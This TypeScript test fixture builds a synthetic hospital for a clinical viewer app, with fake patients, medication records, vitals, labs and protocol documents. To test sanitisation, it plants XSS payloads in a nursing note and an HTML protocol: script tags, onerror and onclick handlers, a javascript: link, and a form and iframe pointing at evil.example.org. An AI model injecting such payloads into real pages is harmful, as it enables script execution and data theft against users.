/**
 * A fake workstation (ApiContext) answering the whole contract with a small, deterministic,
 * synthetic hospital: two units, empty beds, allergies, MAR with held and refused doses,
 * vitals and labs with abnormal flags, a note carrying hostile HTML, and protocol documents
 * of every kind (PDF, Markdown, HTML, text). Every answer satisfies the contract's schemas
 * (test/renderer/fake-context.test.ts checks that), so the UI built on it cannot drift.
 */
import type { ApiContext } from '../../electron/core/api/handlers';
import type { HomeQueries, Administration, AppStatus, Allergy, Census, CensusBed, Chart, ChartItem, MedicationOrder, Note, ObservationValue, Order, PatientSummary, ProtocolDocument, ProtocolInfo, RawRecordRef, UnitRef } from '../../electron/shared/contract';
import { LanternError } from '../../electron/shared/errors';
import { makePdf } from '../../electron/core/demo/protocols';
import { summarizeAllergies } from '../../electron/core/chart/facts/allergies';
import { latestOfEachKind } from '../../electron/core/chart/facts/latest';

export interface FakeOptions {
  /** The data-as-of time; defaults to 37 minutes before the clock. */
  asOf?: Date;
  clock?: () => Date;
  demo?: boolean;
  staleAfterMinutes?: number;
  /** Hours after asOf when the snapshot expires (default 72). */
  expiresAfterHours?: number;
  /** False: a workstation with nothing ingested (empty state). */
  withSnapshot?: boolean;
  /** A local failure (disk full...) the status reports. */
  lastFailure?: AppStatus['lastFailure'];
}

export const FACILITY = { id: 'lantern-general', name: 'Lantern General Hospital' };
export const UNITS: UnitRef[] = [
  { id: '4W', name: '4 West Medical' },
  { id: 'ICU', name: 'Intensive Care' },
];

/** The patient the tests know by heart. */
export const KNOWN = {
  id: 'pat-eleanor',
  name: 'Eleanor Whitfield',
  family: 'Whitfield',
  mrn: '100234',
  birthDate: '1948-02-17',
  room: '412',
  bed: 'A',
  unit: '4W',
  allergies: ['Penicillin', 'Latex'],
  codeStatus: 'DNR / DNI',
  isolation: 'Contact',
  weight: '61.2 kg',
  attending: 'Dr. Samuel Adeyemi',
  hostileNoteId: 'note-eleanor-hostile',
  /** A medication with a held dose (and the reason) in the last 72 hours. */
  heldMedication: 'Metoprolol tartrate',
  heldReason: 'Heart rate 52',
  refusedMedication: 'Enoxaparin',
  abnormalLab: 'Potassium',
};

const HOUR = 3_600_000;
const iso = (ms: number) => new Date(ms).toISOString().replace('.000Z', 'Z');

/** Deterministic pseudo-random numbers (mulberry32). */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface MedSpec {
  name: string;
  dose: string;
  route: string;
  frequency: string;
  hours: number[];
  prn?: boolean;
}
const MEDS: MedSpec[] = [
  { name: 'Metoprolol tartrate', dose: '25 mg', route: 'PO', frequency: 'twice daily', hours: [9, 21] },
  { name: 'Enoxaparin', dose: '40 mg', route: 'SC', frequency: 'once daily', hours: [9] },
  { name: 'Pantoprazole', dose: '40 mg', route: 'PO', frequency: 'once daily', hours: [6] },
  { name: 'Furosemide', dose: '40 mg', route: 'IV', frequency: 'twice daily', hours: [8, 16] },
  { name: 'Vancomycin', dose: '1 g', route: 'IV', frequency: 'every 12 hours', hours: [10, 22] },
  { name: 'Insulin lispro', dose: 'per sliding scale', route: 'SC', frequency: 'before meals', hours: [7, 12, 17] },
  { name: 'Ceftriaxone', dose: '1 g', route: 'IV', frequency: 'once daily', hours: [14] },
  { name: 'Acetaminophen', dose: '650 mg', route: 'PO', frequency: 'every 6 hours as needed', hours: [], prn: true },
  { name: 'Ondansetron', dose: '4 mg', route: 'IV', frequency: 'every 8 hours as needed', hours: [], prn: true },
];

interface LabSpec {
  code: string;
  name: string;
  unit: string;
  low: number;
  high: number;
  mean: number;
  sd: number;
  digits: number;
}
const LABS: LabSpec[] = [
  { code: '718-7', name: 'Hemoglobin', unit: 'g/dL', low: 12, high: 16, mean: 12.8, sd: 1.2, digits: 1 },
  { code: '6690-2', name: 'Leukocytes (WBC)', unit: '10*3/uL', low: 4, high: 11, mean: 8.5, sd: 2.5, digits: 1 },
  { code: '777-3', name: 'Platelets', unit: '10*3/uL', low: 150, high: 400, mean: 240, sd: 60, digits: 0 },
  { code: '2951-2', name: 'Sodium', unit: 'mmol/L', low: 135, high: 145, mean: 139, sd: 3, digits: 0 },
  { code: '2823-3', name: 'Potassium', unit: 'mmol/L', low: 3.5, high: 5.1, mean: 4.2, sd: 0.4, digits: 1 },
  { code: '2160-0', name: 'Creatinine', unit: 'mg/dL', low: 0.6, high: 1.2, mean: 1.0, sd: 0.25, digits: 2 },
  { code: '2345-7', name: 'Glucose', unit: 'mg/dL', low: 70, high: 99, mean: 110, sd: 25, digits: 0 },
];

const LOINC = 'http://loinc.org';
const FIRST = ['Grace', 'Hector', 'Amara', 'Tomasz', 'Lucia', 'Kwame', 'Ingrid', 'Rahul', 'Mei', 'Joseph', 'Fatima',
  'Oskar', 'Noor', 'Daniel', 'Priya', 'Walter', 'Sofia', 'Emeka'];
const LAST = ['Okafor', 'Lindqvist', 'Moreau', 'Nakamura', 'Haddad', 'Kowalski', 'Brennan', 'Castillo', 'Osei',
  'Varga', 'Iqbal', 'Sorensen', 'Delacroix', 'Mensah', 'Albright', 'Quinn', 'Petrov', 'Adeyemi-Cole'];
const ATTENDINGS = ['Dr. Samuel Adeyemi', 'Dr. Helen Marsh', 'Dr. Paolo Ricci', 'Dr. Aiko Tanaka'];
const CODE_STATUSES = ['Full code', 'Full code', 'Full code', 'DNR', 'DNR / DNI'];
const ALLERGENS: Array<[string, string, string, string]> = [
  ['Sulfonamide antibiotics', 'medication', 'high', 'Hives'],
  ['Peanut', 'food', 'high', 'Anaphylaxis'],
  ['Codeine', 'medication', 'low', 'Nausea'],
  ['Iodinated contrast', 'medication', 'high', 'Bronchospasm'],
];

interface FakePatient {
  summary: PatientSummary;
  chart: Chart;
  rawRecords: Map<string, string>;
}

interface Hospital {
  asOf: number;
  beds: Map<string, CensusBed[]>;
  patients: Map<string, FakePatient>;
  protocols: Array<{ info: ProtocolInfo; text: string | null; base64: string | null; plain: string }>;
}

function scheduledTimes(spec: MedSpec, from: number, to: number): number[] {
  const out: number[] = [];
  const startDay = Math.floor(from / (24 * HOUR)) * 24 * HOUR;
  for (let day = startDay; day <= to; day += 24 * HOUR) {
    for (const h of spec.hours) {
      const t = day + h * HOUR;
      if (t >= from && t <= to) out.push(t);
    }
  }
  return out;
}

function buildPatient(
  asOf: number,
  unit: UnitRef,
  room: string,
  bed: string,
  index: number,
  known: boolean,
): FakePatient {
  const r = rng(1000 + index * 7919);
  const pick = <T,>(xs: T[]) => xs[Math.floor(r() * xs.length)]!;
  const id = known ? KNOWN.id : `pat-${unit.id.toLowerCase()}-${room}${bed}`.toLowerCase();
  const name = known ? KNOWN.name : `${FIRST[index % FIRST.length]} ${LAST[(index * 5) % LAST.length]}`;
  const mrn = known ? KNOWN.mrn : String(200100 + index * 37);
  const year = 1935 + Math.floor(r() * 70);
  const birthDate = known
    ? KNOWN.birthDate
    : `${year}-${String(1 + Math.floor(r() * 12)).padStart(2, '0')}-${String(1 + Math.floor(r() * 28)).padStart(2, '0')}`;
  const sex = known ? 'female' : index % 2 ? 'male' : 'female';
  const location = { unit, room, bed };
  const summary: PatientSummary = { id, name, mrn, birthDate, sex, deceased: false, location };
  const admitted = asOf - (2 + Math.floor(r() * 6)) * 24 * HOUR - Math.floor(r() * 20) * HOUR;
  const attending = known ? KNOWN.attending : pick(ATTENDINGS);
  const icu = unit.id === 'ICU';

  // Allergies
  const allergies: Allergy[] = [];
  if (known) {
    allergies.push(
      { id: 'alg-eleanor-pcn', substance: 'Penicillin', category: 'medication', criticality: 'high', severity: 'severe',
        reactions: ['Anaphylaxis'], clinicalStatus: 'active', verificationStatus: 'confirmed', recordedDate: '2009-05-12', noKnownAllergy: false },
      { id: 'alg-eleanor-latex', substance: 'Latex', category: 'environment', criticality: 'low', severity: 'moderate',
        reactions: ['Contact dermatitis'], clinicalStatus: 'active', verificationStatus: 'confirmed', recordedDate: '2015-10-02', noKnownAllergy: false },
    );
  } else if (index % 3 === 0) {
    const [substance, category, criticality, reaction] = pick(ALLERGENS);
    allergies.push({ id: `alg-${id}`, substance, category, criticality, severity: criticality === 'high' ? 'severe' : 'mild',
      reactions: [reaction], clinicalStatus: 'active', verificationStatus: 'confirmed', recordedDate: '2018-03-01', noKnownAllergy: false });
  } else if (index % 2 === 0) {
    allergies.push({ id: `nka-${id}`, substance: 'No known allergies', category: null, criticality: null, severity: null,
      reactions: [], clinicalStatus: 'active', verificationStatus: 'confirmed', recordedDate: '2018-03-01', noKnownAllergy: true });
  }

  // Medications and administrations over the last 72 h
  const medSpecs = known
    ? [MEDS[0]!, MEDS[1]!, MEDS[2]!, MEDS[7]!]
    : [...MEDS].sort(() => r() - 0.5).slice(0, 3 + Math.floor(r() * 3));
  const medications: MedicationOrder[] = medSpecs.map((m, i) => ({
    id: `med-${id}-${i}`, medication: m.name, dose: m.dose, route: m.route, frequency: m.frequency, prn: Boolean(m.prn),
    status: 'active', intent: 'order', prescriber: attending, authoredOn: iso(admitted + HOUR), start: iso(admitted + 2 * HOUR),
    end: null, instructions: m.prn ? 'For pain or fever; max 3 g per day' : null,
  }));
  const administrations: Administration[] = [];
  medSpecs.forEach((m, i) => {
    const order = medications[i]!;
    const times = m.prn
      ? [asOf - 50 * HOUR, asOf - 29 * HOUR, asOf - 7 * HOUR].filter(() => r() > 0.3 || known)
      : scheduledTimes(m, Math.max(asOf - 72 * HOUR, admitted + 2 * HOUR), asOf);
    times.forEach((t, k) => {
      let status = 'completed';
      let reason: string | null = null;
      const last = k === times.length - 1;
      if (known && m.name === KNOWN.heldMedication && k === times.length - 2) {
        status = 'not-done';
        reason = KNOWN.heldReason;
      } else if (known && m.name === KNOWN.refusedMedication && last) {
        status = 'not-done';
        reason = 'Patient refused';
      } else if (!known && r() < 0.06) {
        status = 'not-done';
        reason = r() < 0.5 ? 'Patient refused' : 'Held: NPO for procedure';
      }
      administrations.push({
        id: `adm-${id}-${i}-${k}`, orderId: order.id, medication: m.name, status, reason,
        at: iso(t + Math.floor(r() * 25) * 60_000), dose: status === 'completed' ? m.dose : null, route: m.route,
        performer: pick(['R. Osei, RN', 'M. Lindgren, RN', 'J. Park, RN']),
      });
    });
  });

  // Vitals: every 4 h (every hour in the ICU) for 72 h
  const vitals: ObservationValue[] = [];
  const vitalStep = icu ? 1 : 4;
  for (let t = asOf - 72 * HOUR + HOUR; t <= asOf; t += vitalStep * HOUR) {
    const at = iso(t - 20 * 60_000);
    const hr = Math.round(72 + r() * 30);
    const sys = Math.round(105 + r() * 50);
    const dia = Math.round(60 + r() * 30);
    const temp = Math.round((36.4 + r() * 2) * 10) / 10;
    const rr = Math.round(14 + r() * 10);
    const spo2 = Math.round(89 + r() * 10);
    const k = vitals.length;
    const vital = (code: string, display: string, value: number, unitText: string, low: number, high: number): ObservationValue => ({
      id: `vit-${id}-${k}-${code}`, code: { code, system: LOINC, display }, category: 'vital-signs', at,
      value: `${value} ${unitText}`, numeric: value, unit: unitText, referenceRange: `${low}–${high} ${unitText}`,
      interpretation: value > high ? 'H' : value < low ? 'L' : 'N', flag: value > high ? 'high' : value < low ? 'low' : 'normal',
      abnormal: value > high || value < low, components: [],
    });
    vitals.push(
      vital('8867-4', 'Heart rate', hr, '/min', 60, 100),
      {
        id: `vit-${id}-${k}-bp`, code: { code: '85354-9', system: LOINC, display: 'Blood pressure' }, category: 'vital-signs', at,
        value: `${sys}/${dia} mmHg`, numeric: null, unit: 'mmHg', referenceRange: null, interpretation: sys > 140 ? 'H' : 'N',
        flag: sys > 140 ? 'high' : 'normal', abnormal: sys > 140,
        components: [
          { code: { code: '8480-6', system: LOINC, display: 'Systolic blood pressure' }, value: `${sys} mmHg`, numeric: sys, unit: 'mmHg' },
          { code: { code: '8462-4', system: LOINC, display: 'Diastolic blood pressure' }, value: `${dia} mmHg`, numeric: dia, unit: 'mmHg' },
        ],
      },
      vital('8310-5', 'Body temperature', temp, 'Cel', 36.1, 38),
      vital('9279-1', 'Respiratory rate', rr, '/min', 12, 20),
      vital('59408-5', 'Oxygen saturation', spo2, '%', 92, 100),
    );
  }
  vitals.reverse();

  // Labs: daily chemistry and counts (glucose every 6 h in the ICU)
  const labs: ObservationValue[] = [];
  for (let day = 2; day >= 0; day--) {
    const at = asOf - day * 24 * HOUR - 3 * HOUR;
    for (const lab of LABS) {
      let value = Number((lab.mean + (r() - 0.5) * 2 * lab.sd).toFixed(lab.digits));
      if (known && lab.name === KNOWN.abnormalLab && day === 0) value = 5.9;
      const flag = value > lab.high ? 'H' : value < lab.low ? 'L' : 'N';
      labs.push({
        id: `lab-${id}-${day}-${lab.code}`, code: { code: lab.code, system: LOINC, display: lab.name }, category: 'laboratory',
        at: iso(at), value: `${value} ${lab.unit}`, numeric: value, unit: lab.unit, referenceRange: `${lab.low}–${lab.high} ${lab.unit}`,
        interpretation: flag, flag: flag === 'H' ? 'high' : flag === 'L' ? 'low' : 'normal', abnormal: flag !== 'N', components: [],
      });
    }
  }
  if (icu) {
    for (let t = asOf - 72 * HOUR; t <= asOf; t += 6 * HOUR) {
      const value = Math.round(90 + r() * 120);
      labs.push({
        id: `lab-${id}-poc-${t}`, code: { code: '2345-7', system: LOINC, display: 'Glucose' }, category: 'laboratory', at: iso(t),
        value: `${value} mg/dL`, numeric: value, unit: 'mg/dL', referenceRange: '70–99 mg/dL',
        interpretation: value > 99 ? 'H' : 'N', flag: value > 99 ? 'high' : 'normal', abnormal: value > 99, components: [],
      });
    }
  }
  labs.sort((a, b) => (b.at ?? '').localeCompare(a.at ?? ''));

  const notes: Note[] = [
    { id: `note-${id}-1`, type: 'Nursing progress note', author: 'R. Osei, RN', at: iso(asOf - 5 * HOUR), status: 'final',
      text: `Patient resting comfortably. Pain 2/10.\nAmbulated in hallway with assistance x2.\nTolerating diet. Voiding without difficulty.` },
    { id: `note-${id}-2`, type: 'Physician progress note', author: attending, at: iso(asOf - 20 * HOUR), status: 'final',
      text: `Assessment and plan:\n1. Community-acquired pneumonia — improving, continue antibiotics.\n2. Hypertension — continue home regimen.\nDisposition: anticipate discharge in 48 h.` },
  ];
  if (known) {
    notes.unshift({
      id: KNOWN.hostileNoteId, type: 'Nursing progress note', author: 'M. Lindgren, RN', at: iso(asOf - 2 * HOUR), status: 'final',
      text: 'Family at bedside. <script>window.__lanternPwned = "script"</script>' +
        '<img src="x" onerror="window.__lanternPwned = \'img\'"> Skin intact, turned q2h.',
    });
  }

  const orders: Order[] = [
    { id: `ord-${id}-1`, kind: 'Laboratory', code: { code: '58410-2', system: LOINC, display: 'CBC panel' }, status: 'active',
      intent: 'order', priority: 'routine', requester: attending, authoredOn: iso(admitted + HOUR), details: 'Daily at 05:00' },
    { id: `ord-${id}-2`, kind: 'Nursing', code: { code: null, system: null, display: 'Fall precautions' }, status: 'active',
      intent: 'order', priority: 'routine', requester: attending, authoredOn: iso(admitted + HOUR), details: 'Bed alarm on' },
    { id: `ord-${id}-3`, kind: 'Diet', code: { code: null, system: null, display: 'Cardiac diet, 2 g sodium' }, status: 'active',
      intent: 'order', priority: null, requester: attending, authoredOn: iso(admitted + 2 * HOUR), details: null },
    { id: `ord-${id}-4`, kind: 'Imaging', code: { code: '36643-5', system: LOINC, display: 'XR Chest 2 views' }, status: 'completed',
      intent: 'order', priority: 'stat', requester: attending, authoredOn: iso(admitted), details: null },
  ];

  const encounter = {
    id: `enc-${id}`, class: 'inpatient', type: icu ? 'Intensive care admission' : 'Medical admission', status: 'in-progress',
    start: iso(admitted), end: null, location, attending, participants: [attending, 'R. Osei, RN'],
    reason: known ? 'Community-acquired pneumonia' : pick(['Pneumonia', 'Heart failure exacerbation', 'Sepsis', 'COPD exacerbation', 'Cellulitis']),
  };

  const item = (type: string, n: number, title: string, status: string | null, at: number, detail: string | null): ChartItem =>
    ({ id: `${type.toLowerCase()}-${id}-${n}`, type, title, status, at: iso(at), detail });

  const other: RawRecordRef[] = [
    { type: 'Device', id: `dev-${id}`, summary: 'Peripheral IV catheter 20G, left forearm' },
    { type: 'Coverage', id: `cov-${id}`, summary: 'Medicare Part A' },
  ];
  const rawRecords = new Map<string, string>([
    [`Device/dev-${id}`, JSON.stringify({ resourceType: 'Device', id: `dev-${id}`, type: { text: 'Peripheral IV catheter 20G' },
      patient: { reference: `Patient/${id}` }, note: [{ text: 'Inserted left forearm; site clean.' }] }, null, 2)],
    [`Coverage/cov-${id}`, JSON.stringify({ resourceType: 'Coverage', id: `cov-${id}`, status: 'active',
      payor: [{ display: 'Medicare Part A' }], beneficiary: { reference: `Patient/${id}` } }, null, 2)],
  ]);

  const chart: Chart = {
    patient: {
      ...summary,
      identifiers: [{ system: 'urn:lantern:mrn', type: 'MR', value: mrn }],
      phone: '555-0100', address: '12 Harbour Road, Springfield',
      contacts: [{ relationship: 'Daughter', name: 'Ann Whitfield', phone: '555-0142' }],
      deceasedAt: null,
    },
    encounter,
    codeStatus: known ? KNOWN.codeStatus : pick(CODE_STATUSES),
    isolation: known ? [KNOWN.isolation] : index % 4 === 1 ? ['Droplet'] : [],
    weight: known ? KNOWN.weight : `${(50 + r() * 50).toFixed(1)} kg`,
    height: known ? '162 cm' : `${Math.round(150 + r() * 40)} cm`,
    attending,
    allergies,
    allergySummary: summarizeAllergies(allergies),
    conditions: [
      { id: `cond-${id}-1`, code: { code: '233604007', system: 'http://snomed.info/sct', display: encounter.reason },
        clinicalStatus: 'active', onset: iso(admitted), abatement: null, category: 'encounter-diagnosis' },
      { id: `cond-${id}-2`, code: { code: '38341003', system: 'http://snomed.info/sct', display: 'Hypertension' },
        clinicalStatus: 'active', onset: '2011-06-01', abatement: null, category: 'problem-list-item' },
      { id: `cond-${id}-3`, code: { code: '44054006', system: 'http://snomed.info/sct', display: 'Type 2 diabetes mellitus' },
        clinicalStatus: 'active', onset: '2016-01-20', abatement: null, category: 'problem-list-item' },
      { id: `cond-${id}-4`, code: { code: '195662009', system: 'http://snomed.info/sct', display: 'Acute viral pharyngitis' },
        clinicalStatus: 'resolved', onset: '2019-02-11', abatement: '2019-02-20', category: 'problem-list-item' },
    ],
    medications,
    administrations,
    vitals,
    latestVitals: latestOfEachKind(vitals),
    labs,
    latestLabs: latestOfEachKind(labs),
    otherObservations: [],
    notes,
    orders,
    encounters: [encounter],
    procedures: [item('Procedure', 1, 'Peripheral IV insertion', 'completed', admitted + HOUR, 'Left forearm, 20G')],
    immunizations: [item('Immunization', 1, 'Influenza vaccine, seasonal', 'completed', asOf - 200 * 24 * HOUR, null)],
    carePlans: [item('CarePlan', 1, 'Fall prevention', 'active', admitted + HOUR, 'Hourly rounding; bed alarm')],
    flags: known ? [item('Flag', 1, 'Hard of hearing: speak on the left side', 'active', admitted, null)] : [],
    reports: [item('DiagnosticReport', 1, 'XR Chest 2 views', 'final', admitted + 3 * HOUR, 'Right lower lobe consolidation.')],
    careTeam: [
      { name: attending, role: 'Attending physician', team: 'Hospital medicine' },
      { name: 'R. Osei, RN', role: 'Primary nurse', team: unit.name },
      { name: 'L. Haddad, PharmD', role: 'Clinical pharmacist', team: null },
    ],
    other,
    counts: {},
    asOf: iso(asOf),
  };
  chart.counts = {
    Patient: 1, AllergyIntolerance: allergies.length, Condition: chart.conditions.length,
    MedicationRequest: medications.length, MedicationAdministration: administrations.length,
    Observation: vitals.length + labs.length, DocumentReference: notes.length, ServiceRequest: orders.length,
    Encounter: 1, Procedure: 1, Immunization: 1, CarePlan: 1, Flag: chart.flags.length, DiagnosticReport: 1,
    CareTeam: 1, Device: 1, Coverage: 1,
  };
  return { summary, chart, rawRecords };
}

const PROTOCOL_MARKDOWN = `# Downtime medication administration

When the EHR is unavailable:

1. Print the **unit MAR** from Lantern at the start of downtime.
2. Document every dose on the paper MAR: time, dose, route, initials.
3. Verify *two identifiers* (name and MRN) before every administration.

| Check | Who |
| --- | --- |
| Allergies reviewed | Administering nurse |
| High-alert double check | Second nurse |

> Do not rely on a copy older than two hours for time-critical medications.
`;

const PROTOCOL_HTML = `<h1>Rapid response team activation</h1>
<p onclick="window.__lanternPwned='onclick'">Call <strong>extension 5555</strong> for any of the criteria below.</p>
<script>window.__lanternPwned = 'protocol-script'</script>
<img src="https://tracker.example.org/pixel.gif" alt="remote image">
<img src="x" onerror="window.__lanternPwned='protocol-img'" alt="broken">
<form action="https://evil.example.org"><input name="q"><button>Send</button></form>
<ul style="color:red"><li>Heart rate below 40 or above 130</li><li>Systolic BP below 90</li><li>New confusion or agitation</li></ul>
<a href="javascript:window.__lanternPwned='href'">details</a>
<iframe src="https://evil.example.org"></iframe>`;

function buildHospital(asOf: number): Hospital {
  const beds = new Map<string, CensusBed[]>();
  const patients = new Map<string, FakePatient>();
  let index = 1;
  const layout: Record<string, Array<[string, string]>> = {
    '4W': ['401', '402', '403', '404', '405', '406', '407', '408', '409', '410', '411', '412']
      .flatMap((room) => (room === '412' || room === '405' ? [[room, 'A'], [room, 'B']] : [[room, 'A']]) as Array<[string, string]>),
    ICU: ['I-1', 'I-2', 'I-3', 'I-4', 'I-5', 'I-6', 'I-7', 'I-8'].map((room) => [room, '1'] as [string, string]),
  };
  const empty = new Set(['4W:403:A', '4W:412:B', '4W:409:A', 'ICU:I-6:1']);
  for (const unit of UNITS) {
    const unitBeds: CensusBed[] = [];
    for (const [room, bed] of layout[unit.id]!) {
      const locationId = `loc-${unit.id}-${room}-${bed}`;
      if (empty.has(`${unit.id}:${room}:${bed}`)) {
        unitBeds.push({ locationId, room, bed, patient: null });
        continue;
      }
      const known = unit.id === KNOWN.unit && room === KNOWN.room && bed === KNOWN.bed;
      const p = buildPatient(asOf, unit, room, bed, index++, known);
      patients.set(p.summary.id, p);
      const c = p.chart;
      unitBeds.push({
        locationId, room, bed,
        patient: {
          ...p.summary,
          allergies: c.allergySummary,
          codeStatus: c.codeStatus,
          isolation: c.isolation,
          admitDate: c.encounter?.start ?? null,
          attending: c.attending,
        },
      });
    }
    beds.set(unit.id, unitBeds);
  }

  const protocol = (id: string, title: string, category: string, kind: ProtocolInfo['kind'], content: Buffer | string, plain: string) => {
    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
    return {
      info: { id, title, category, kind, size: bytes.length },
      text: kind === 'pdf' ? null : bytes.toString('utf8'),
      base64: kind === 'pdf' ? bytes.toString('base64') : null,
      plain,
    };
  };
  const pdfLines = [
    ['Downtime paper MAR - instructions', '', 'Use one sheet per patient per 24 hours.', 'Write name, MRN and date of birth on every sheet.',
      'Record time, dose, route and initials for each administration.'],
    ['Page 2: High-alert medications', '', 'Insulin, heparin, opioids and potassium require', 'an independent double check by a second nurse.'],
  ];
  const protocols = [
    protocol('proto-downtime-meds', 'Downtime medication administration', 'Downtime procedures', 'markdown', PROTOCOL_MARKDOWN, PROTOCOL_MARKDOWN),
    protocol('proto-paper-mar', 'Paper MAR form and instructions', 'Forms', 'pdf', makePdf('Paper MAR form and instructions', pdfLines), pdfLines.flat().join('\n')),
    protocol('proto-rapid-response', 'Rapid response team activation', 'Emergency', 'html', PROTOCOL_HTML,
      'Rapid response team activation. Call extension 5555. Heart rate below 40 or above 130. Systolic BP below 90.'),
    protocol('proto-contacts', 'Downtime contact numbers', 'Downtime procedures', 'text',
      'Pharmacy: 4100\nLaboratory: 4200\nIT service desk (24/7): 4357\nHouse supervisor: 4000', 'Pharmacy 4100 Laboratory 4200 IT service desk 4357'),
    protocol('proto-sepsis', 'Sepsis bundle (hour-1)', 'Clinical', 'markdown',
      '# Sepsis bundle\n\n- Measure lactate\n- Blood cultures before antibiotics\n- Broad-spectrum antibiotics\n- 30 mL/kg crystalloid for hypotension\n',
      'Sepsis bundle lactate blood cultures antibiotics crystalloid'),
  ];
  return { asOf, beds, patients, protocols };
}

/** Time window defaults of the MAR: the 72 hours up to the data-as-of time. */
function marRows(p: FakePatient, from: number, to: number, asOf: number) {
  return p.chart.medications.map((order) => {
    const spec = MEDS.find((m) => m.name === order.medication)!;
    const start = Math.max(from, Date.parse(order.start ?? order.authoredOn ?? '') || from);
    const scheduled = scheduledTimes(spec, start, to).map(iso);
    const administrations = p.chart.administrations.filter((a) => {
      const t = Date.parse(a.at ?? '');
      return a.orderId === order.id && t >= from && t <= to;
    });
    const given = administrations.filter((a) => a.status === 'completed').map((a) => a.at!).sort();
    const next = spec.prn ? [] : scheduledTimes(spec, asOf + 1, asOf + 48 * HOUR);
    return {
      order,
      scheduled,
      administrations,
      lastGiven: given.at(-1) ?? null,
      nextDue: next[0] !== undefined ? iso(next[0]) : null,
    };
  });
}

function notInSnapshot(): never {
  throw new LanternError('NOT_FOUND', 'This patient is not in this unit’s snapshot.');
}

function queriesFor(h: Hospital): HomeQueries {
  const patient = (id: string) => h.patients.get(id) ?? notInSnapshot();
  const allPatients = () => [...h.patients.values()].map((p) => p.summary);
  return {
    search: ({ text, limit }) => {
      const q = text.toLowerCase().replace(/\s+/g, ' ');
      return allPatients()
        .filter((s) =>
          s.name.toLowerCase().includes(q) ||
          s.name.toLowerCase().split(' ').reverse().join(' ').includes(q) ||
          (s.mrn ?? '').toLowerCase().includes(q) ||
          s.birthDate === text ||
          `${s.location?.room ?? ''}${s.location?.bed ?? ''}`.toLowerCase().startsWith(q.replace(/[\s-]/g, '')) ||
          (s.location?.room ?? '').toLowerCase() === q)
        .slice(0, limit);
    },
    census: ({ unit }) => {
      const ref = unit ? UNITS.find((u) => u.id === unit) : UNITS[0];
      if (!ref) throw new LanternError('NOT_FOUND', 'This unit is not in this workstation’s snapshot.');
      const census: Census = { unit: ref, units: UNITS, beds: h.beds.get(ref.id) ?? [], groups: [], withoutUnit: 0, asOf: iso(h.asOf) };
      return census;
    },
    chart: ({ patientId }) => patient(patientId).chart,
    mar: ({ patientId, from, to }) => {
      const p = patient(patientId);
      const toMs = to ? Date.parse(to) : h.asOf;
      const fromMs = from ? Date.parse(from) : toMs - 72 * HOUR;
      return { patient: p.summary, from: iso(fromMs), to: iso(toMs), rows: marRows(p, fromMs, toMs, h.asOf), asOf: iso(h.asOf) };
    },
    series: ({ patientId, code }) => {
      const p = patient(patientId);
      const obs = [...p.chart.vitals, ...p.chart.labs].filter((o) => o.code.code === code && o.numeric !== null);
      const first = obs[0];
      return {
        code: first?.code ?? { code, system: null, display: code },
        unit: first?.unit ?? null,
        referenceRange: first?.referenceRange ?? null,
        points: obs
          .map((o) => ({ at: o.at!, numeric: o.numeric!, interpretation: o.interpretation, abnormal: o.abnormal }))
          .sort((a, b) => a.at.localeCompare(b.at)),
      };
    },
    record: ({ patientId, type, id }) => {
      const json = patient(patientId).rawRecords.get(`${type}/${id}`);
      if (!json) throw new LanternError('NOT_FOUND', 'This record is not in this snapshot.');
      return { type, id, json };
    },
    protocols: () => h.protocols.map((p) => p.info),
    protocolSearch: ({ text }) => {
      const q = text.toLowerCase();
      return h.protocols
        .filter((p) => p.info.title.toLowerCase().includes(q) || p.plain.toLowerCase().includes(q))
        .map((p) => {
          const at = p.plain.toLowerCase().indexOf(q);
          const snippet = at < 0 ? p.plain.slice(0, 80) : p.plain.slice(Math.max(0, at - 30), at + q.length + 50);
          return { ...p.info, snippet: snippet.replace(/\s+/g, ' ').trim() };
        });
    },
    protocolOpen: ({ id }) => {
      const p = h.protocols.find((x) => x.info.id === id);
      if (!p) throw new LanternError('NOT_FOUND', 'This document is not in this snapshot.');
      const doc: ProtocolDocument = { ...p.info, text: p.text, base64: p.base64 };
      return doc;
    },
  };
}

export type FakeContext = ApiContext & { readonly asOf: Date };

/** A workstation answering the contract from the synthetic hospital above. */
export function createFakeContext(options: FakeOptions = {}): FakeContext {
  const clock = options.clock ?? (() => new Date());
  const asOfMs = options.asOf?.getTime() ?? Math.floor((clock().getTime() - 37 * 60_000) / 60_000) * 60_000;
  const withSnapshot = options.withSnapshot ?? true;
  const hospital = withSnapshot ? buildHospital(asOfMs) : null;
  const queries = hospital ? queriesFor(hospital) : null;
  let counts: Record<string, number> = {};
  if (hospital) {
    counts = {};
    for (const p of hospital.patients.values()) {
      for (const [type, n] of Object.entries(p.chart.counts)) counts[type] = (counts[type] ?? 0) + n;
    }
  }
  const status: Omit<AppStatus, 'now'> = {
    demo: options.demo ?? true,
    staleAfterMinutes: options.staleAfterMinutes ?? 120,
    snapshot: hospital
      ? {
          facility: FACILITY,
          units: UNITS,
          sequence: 42,
          asOf: iso(asOfMs),
          ingestedAt: iso(asOfMs + 3 * 60_000),
          expiresAt: iso(asOfMs + (options.expiresAfterHours ?? 72) * HOUR),
          counts,
        }
      : null,
    lastRejection: null,
    lastFailure: options.lastFailure ?? null,
  };
  return {
    shell: 'preview',
    version: 'fake',
    clock,
    status: () => status,
    queries: () => queries,
    asOf: new Date(asOfMs),
  };
}
